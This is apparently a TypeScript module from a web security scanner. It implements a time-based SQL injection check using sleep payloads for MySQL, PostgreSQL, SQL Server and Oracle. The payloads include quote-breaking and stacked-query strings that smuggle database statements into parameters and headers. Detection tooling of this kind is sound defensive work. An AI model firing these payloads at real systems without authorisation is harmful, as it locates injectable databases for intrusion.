import { observationAt } from '../answers.ts';
import type { ActiveCheck } from '../check.ts';
import { findDelay, shownDelay, type WritePause } from '../delay/confirm.ts';
import { isBare } from '../difference/family.ts';
import { sqlInjection } from './byError.ts';

/** A pause as each database writes it, worked out once and not for every row. */
const mysql = (s: number) => `(SELECT v.x FROM (SELECT SLEEP(${s}) x)v)`;
const postgres = (s: number) => `(SELECT 1 FROM PG_SLEEP(${s}))`;
const sqlServer = (s: number) => `WAITFOR DELAY '0:0:${s === 1 ? '1' : `0.${s * 10}`}'`;
const oracle = (s: number) => `DBMS_PIPE.RECEIVE_MESSAGE('a',${s})`;

/** Each for a number, then for text in single and in double quotes. */
function pausesFor(usual: string): WritePause[] {
  const number = isBare(usual);
  const v = usual;
  return [
    // In a number, in single and in double quotes at once: each reads the others as text or comment.
    (s) => `${mysql(s)}/*'+${mysql(s)}+'"+${mysql(s)}+"*/`,
    (s) => `${v}' AND 1=${postgres(s)} AND '1'='1`,
    (s) => `${v}';${sqlServer(s)}--`,
    (s) => `${v}'||${oracle(s)}||'`,
    (s) => `${v}' AND ${mysql(s)}='0`,
    (s) => `${v}');${sqlServer(s)}--`,
    (s) => `${v}');SELECT PG_SLEEP(${s})--`,
    (s) => `${v}';SELECT PG_SLEEP(${s})--`,
    ...(number
      ? [
          (s: number) => `${v} AND 1=${postgres(s)}`,
          (s: number) => `${v};${sqlServer(s)}--`,
          (s: number) => `${v} AND 1=${oracle(s)}`,
          (s: number) => `${v};SELECT PG_SLEEP(${s})--`,
          (s: number) => `${v} AND ${mysql(s)}=0`,
          (s: number) => `${v}) AND ${mysql(s)}=0 AND (1=1`,
        ]
      : []),
  ];
}

export const sqlByTime: ActiveCheck = {
  ...sqlInjection,
  id: 'sqli-time',
  technicalName: 'SQL injection (time based)',
  minLevel: 'full',
  // Headers too: they end in a query now and then, for a log, a list of visitors, a limit of tries.
  appliesTo: ({ place }) => place !== 'xml',
  async measure(point, prober, alone) {
    const pauses = pausesFor(point.value);
    const chosen = point.place === 'header' ? pauses.slice(0, 4) : pauses;
    const delay = await findDelay(point, prober, chosen, alone);
    if (delay === null) return [];
    const evidence = `Sent ${delay.value} as "${point.name}"; the database waits as long as it is told: ${shownDelay(delay)}`;
    return [observationAt(point, evidence)];
  },
};
